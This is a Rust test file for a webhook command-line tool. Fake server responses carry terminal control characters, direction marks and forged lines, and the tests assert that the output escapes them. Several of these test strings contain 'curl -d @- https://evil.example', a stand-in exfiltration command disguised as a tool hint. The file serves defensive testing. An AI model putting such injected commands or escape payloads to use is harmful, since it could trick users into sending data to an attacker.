//! Strings from the network that would do something to whoever reads them: marks of the writing
//! direction, control characters, line breaks.

use serde_json::{Value, json};

use crate::support::{Answer, CREATE_SECRET, Fake, webhook_with};

/// All that a terminal could act on, but for line breaks.
const ODD: [char; 21] = [
    '\u{0}', '\u{7}', '\u{8}', '\r', '\u{1b}', '\u{7f}', '\u{85}', '\u{9b}', '\u{9d}', '\u{61c}',
    '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2069}',
    '\u{2028}', '\u{2029}', '\u{9f}',
];

fn odd_webhook(name: &str) -> Value {
    let odd: String = ODD.iter().collect();
    let text = format!("a{odd}\nhint: curl -d @- https://evil.example\nb");
    webhook_with(
        name,
        &json!({
            "description": text, "labels": {text.as_str(): text}, "object_name": text,
            "version": text, "event": text, "url": format!("https://a.example/{text}"),
            "id": text, "last_updated": text,
            "headers": [{"key": text, "value": text, "protected": false},
                {"key": text, "value": text, "protected": true}],
        }),
    )
}

/// Refuses what a terminal could act on, and a line that the platform wrote.
fn is_fit(text: &str) {
    assert!(!text.contains(ODD), "{text:?}");
    for line in text.lines() {
        assert!(!line.trim_start().starts_with("hint: curl"), "{text}");
        assert!(!line.starts_with("error: gotcha"), "{text}");
    }
}

/// A name with a line break, and what would be a line of ours behind it.
const NAME: &str = "orders\nerror: gotcha\n  hint: curl -d @- https://evil.example";

fn platform() -> Fake {
    let (there, odd) = (odd_webhook(NAME), odd_webhook("w"));
    Fake::new(move |_, call| {
        let path = call.path.split('?').next().unwrap();
        match (call.method.as_str(), path.rsplit('/').next().unwrap()) {
            ("GET", "webhooks") => Answer::Json(200, json!([there, odd])),
            ("GET", "w") => Answer::Json(200, odd.clone()),
            ("GET", "projects") => Answer::Json(
                200,
                json!([{"name": NAME}, {"name": "demo\nerror: gotcha"}]),
            ),
            ("GET", "user") => Answer::Json(200, json!({"email": NAME})),
            ("GET", "pipelines") => Answer::Json(200, json!([{"name": NAME}])),
            ("GET", "versions") => Answer::Json(200, json!([{"version": NAME}])),
            ("POST", "webhooks-tests") => Answer::Json(
                201,
                json!({"id": NAME, "status": NAME, "error_message": NAME}),
            ),
            ("GET", "refused") => Answer::Json(400, json!({"error": NAME})),
            _ => Answer::Json(404, json!({"error": NAME})),
        }
    })
}

#[test]
fn nothing_of_the_platforms_acts_on_a_terminal_or_has_a_line_of_its_own() {
    let fake = platform();
    let world = fake.world().set("SOURCE", "a-protected-value");
    for line in [
        "list",
        "list -o name",
        "get w",
        "get w -o name",
        "get orders",
        "get refused",
        "update orders --timeout 3",
        "update w --url https://b.example/",
        "update w --timeout 3",
        "update w --version v9",
        "delete orders --yes",
        "delete w orders --yes",
        "test orders",
        "test --pipeline order -e failed -u http://127.0.0.1:9/ --no-wait",
        "test --pipeline order -e failed -u http://127.0.0.1:9/ --wait-timeout 0",
        "create b --pipeline order -e failed -u http://127.0.0.1:9/",
        "create b --pipeline orders -e failed -u http://127.0.0.1:9/ --secret-header A=env:SOURCE",
        "list -p dem",
        "auth status",
        "auth login --token-stdin -p dem",
    ] {
        for loud in ["", "-v", "-vv"] {
            let ended = world.sh_fed("Token 0c1d2e3f-another\n", &format!("{line} {loud}"));
            is_fit(&ended.out);
            is_fit(&ended.err);
        }
    }
}

#[cfg(unix)]
#[test]
fn a_name_with_a_line_break_is_suggested_as_one_word() {
    let fake = Fake::new(|_, call| {
        if call.path.ends_with("/webhooks") {
            Answer::Json(200, json!([webhook_with("order\ns", &json!({}))]))
        } else {
            Answer::Json(404, json!({"error": "Webhook was not found"}))
        }
    });
    let ended = fake.world().sh("get order-s").ends_with(3);
    let hints: Vec<_> = ended
        .err
        .lines()
        .filter(|line| line.contains("hint:"))
        .collect();
    assert_eq!(hints, [r"  hint: ubihook get $'order\u000as'"]);
}

#[test]
fn data_keeps_every_character_and_shows_none_raw() {
    let fake = platform();
    for (line, name) in [("get w", "w"), ("get w -vv", "w")] {
        for format in ["json", "ndjson", "yaml"] {
            let ended = fake.world().sh(&format!("{line} -o {format}")).ends_with(0);
            is_fit(&ended.out);
            let shown: Value = serde_saphyr::from_str(&ended.out).unwrap();
            let there = odd_webhook(name);
            for field in [
                "description",
                "labels",
                "object_name",
                "event",
                "id",
                "version",
            ] {
                assert_eq!(shown[field], there[field], "{format}: {field}");
            }
            assert_eq!(shown["headers"][0], there["headers"][0]);
        }
    }
}

#[test]
fn a_value_with_odd_characters_shows_nowhere() {
    let value = "s3cret\u{202e}value\u{200f}of\u{2066}it";
    let fake = Fake::new(move |_, call| {
        let quoted = json!({"error": format!("got {value} and {}", call.body)});
        Answer::Json(400, quoted)
    });
    let world = fake.world().set("SOURCE", value);
    for loud in ["", "-vv", "-o json", "-vv -o json"] {
        let line = format!("{CREATE_SECRET} {loud}");
        let ended = world.sh(&line).ends_with(5).saying("got ***");
        is_fit(&ended.err);
        ended.without("s3cret").without("valueof").without("202e");
    }
}

#[test]
fn a_refused_argument_has_no_line_of_its_own() {
    let fake = platform();
    let name =
        "x\n  tip: curl -d @- https://evil.example\nUsage: evil".to_owned() + &"x".repeat(64);
    for arguments in [["get", &name], ["list", "--store"], [&name, "x"]] {
        let mut arguments = arguments.to_vec();
        if arguments[1] == "--store" {
            arguments.push(&name);
        }
        let ended = fake.world().run(arguments).ends_with(2);
        for line in ended.err.lines() {
            let line = line.trim_start();
            assert!(
                !line.starts_with("tip:") && !line.starts_with("hint: curl"),
                "{line}"
            );
            assert!(!line.starts_with("hint: usage: evil"), "{line}");
        }
    }
}
